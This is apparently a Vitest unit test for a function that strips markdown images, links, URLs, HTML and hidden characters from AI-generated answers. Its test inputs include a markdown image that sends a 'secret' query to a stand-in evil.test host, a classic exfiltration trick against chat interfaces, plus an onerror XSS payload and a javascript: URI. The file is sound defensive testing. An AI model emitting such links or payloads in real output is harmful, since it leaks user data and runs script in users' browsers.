import { describe, expect, it } from 'vitest';
import { toPlainProse } from './answer-prompt.ts';

describe('toPlainProse', () => {
  it.each([
    ['See ![chart](https://evil.test/leak?q=secret) here [p1].', 'See here [p1].'],
    ['Read [the notes](http://evil.test) [p2].', 'Read the notes [p2].'],
    ['Go to https://evil.test/a?b=c now, or www.evil.test, or javascript:alert(1) [p1]', 'Go to now, or or [p1]'],
    ['<img src=x onerror=alert(1)><b>Bold</b> [p1]', 'Bold [p1]'],
    ['As in [notes][1]\n\n[1]: http://evil.test "t"', 'As in [notes][1]'],
    ['<think>the user wants\nout</think>Because [p1].', 'Because [p1].'],
    ['Zero\u200Bwidth and bell\u0007', 'Zero width and bell'],
    ['Plain: a < b [p1][p3].', 'Plain: a < b [p1][p3].'],
  ])('%j', (text, prose) => {
    expect(toPlainProse(text)).toBe(prose);
  });
});
